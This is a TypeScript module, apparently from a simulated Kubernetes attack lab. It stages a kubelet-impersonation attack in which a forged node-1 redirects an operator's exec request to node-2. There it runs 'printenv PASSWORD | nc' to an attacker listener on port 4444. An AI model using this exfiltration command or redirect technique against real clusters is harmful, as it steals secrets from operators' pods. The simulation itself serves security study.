import { Attacker } from '../../attacker/attacker';
import { neighbour } from '../../attacker/position';
import { addresses, ports } from '../addresses';
import { randomCanaries } from '../canaries';
import type { Stage } from '../scenarios/stage';
import { listenAt } from './caught';
import { runPodWithPassword } from './pod-with-password';
import { spdyExec } from './spdy-exec';

const DROP = 4444;
/** What is to be run in somebody else's pod, so that its outcome does not stay with whoever is led there. */
const COMMAND = ['sh', '-c', `printenv PASSWORD | nc ${addresses.attacker} ${DROP}`];
export const lureQuery = COMMAND.map((word) => `command=${encodeURIComponent(word)}`).join('&');

interface Lure {
  readonly status: number;
  readonly location: string;
  readonly gain: string;
}

/**
 * node-1 is the attacker's, with its serving certificate, which no bundle helps against. An operator runs a command in a pod
 * of node-1 and is answered with a redirect to a command of the attacker's in a pod of node-2.
 */
export async function playLure(stage: Stage, { status, location, gain }: Lure): Promise<void> {
  const { signal } = stage;
  const cluster = await stage.cluster();
  const { attackerHost, controlPlane, credentials, workstation, pki, fabric } = cluster;
  const password = await runPodWithPassword(stage, cluster, 'node-2');
  const rules = [{ apiGroups: [''], resources: ['pods/exec'], verbs: ['create', 'get'] }];
  const token = await credentials.token({ namespace: 'ops', name: 'operator', rules });

  const heard: string[] = [];
  const stop = fabric.timeline.subscribe(({ host, kind, data }) => {
    if (host === 'node-2' && kind === 'request-received' && String(data['path']).startsWith('/exec/'))
      heard.push(`${data['method']} ${String(data['path']).split('?')[0]} from ${data['user']}`);
  });
  const caught = await listenAt(stage, attackerHost, DROP);
  const { forged, tampered } = randomCanaries(stage.random);
  const attack = await new Attacker({ host: attackerHost, random: stage.random.for('attacker') }).attack({
    technique: 'redirect',
    redirectTo: { status, location },
    targets: [{ address: addresses.node1, port: ports.kubelet }],
    position: neighbour(controlPlane, attackerHost, addresses.node1),
    present: pki.kubeletServing['node-1'],
    mode: 'impersonate',
    forged,
    tampered,
  });
  stage.closeLater({ close: () => attack.withdraw() });
  const answers = `has node-1: answers ${status}, Location: ${location.split('?')[0]}?command=…`;
  await stage.did('attacker', answers, 'with the certificate of node-1, which the apiserver believes');

  const path = '/api/v1/namespaces/default/pods/web/exec?command=date&container=web&stdout=true';
  const login = { token, trust: (host: string) => cluster.clientTrust(host) };
  const executed = await spdyExec(workstation, login, { path, signal });
  await attack.withdraw();
  stop();
  await stage.did('operator', 'kubectl exec web -- date', executed.ok ? 'nothing' : executed.text);
  await stage.did('admin', 'journalctl -u kubelet, on node-2', heard.join(', ') || 'nothing');
  const wait = `nc -l -p ${DROP}`;
  if (caught.text().includes(password)) await stage.gained('attacker', wait, caught.text(), gain);
  else await stage.refused('attacker', wait, executed.text);
}
